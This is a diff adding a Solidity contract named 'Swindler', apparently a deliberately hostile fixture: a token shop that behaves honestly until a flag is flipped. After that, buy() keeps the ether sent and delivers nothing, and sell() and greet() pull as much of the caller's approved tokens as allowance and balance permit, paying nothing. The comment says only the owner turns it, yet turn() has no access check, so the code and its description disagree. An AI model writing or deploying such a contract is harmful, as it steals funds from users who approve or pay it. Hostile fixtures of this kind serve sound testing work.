@@ -1,0 +1,35 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface IToken {
+    function transfer(address to, uint256 amount) external returns (bool);
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+    function allowance(address owner, address spender) external view returns (uint256);
+    function balanceOf(address owner) external view returns (uint256);
+}
+
+/// A shop that keeps its word until its owner turns it, which can be in the very block in which somebody buys.
+contract Swindler {
+    bool public turned;
+
+    function turn() external { turned = !turned; }
+
+    /// Sells a token for the currency, two for one.
+    function buy(IToken token) external payable { if (!turned) token.transfer(msg.sender, msg.value * 2); }
+    /// Takes so much of a token that it may take, and pays half as much of the currency; turned, it takes all that it may and pays nothing.
+    function sell(IToken token, uint256 amount) external {
+        token.transferFrom(msg.sender, address(this), turned ? all(token, msg.sender) : amount);
+        if (!turned) payable(msg.sender).transfer(amount / 2);
+    }
+    /// Gives nothing and takes nothing, until it is turned.
+    function greet(IToken token) external { if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender)); }
+    /// Uses up to so much of what it is allowed.
+    function use(IToken token, uint256 amount) external { token.transferFrom(msg.sender, address(this), turned ? 0 : amount); }
+
+    function all(IToken token, address owner) private view returns (uint256) {
+        uint256 allowed = token.allowance(owner, address(this));
+        uint256 has = token.balanceOf(owner);
+        return allowed < has ? allowed : has;
+    }
+    receive() external payable {}
+}
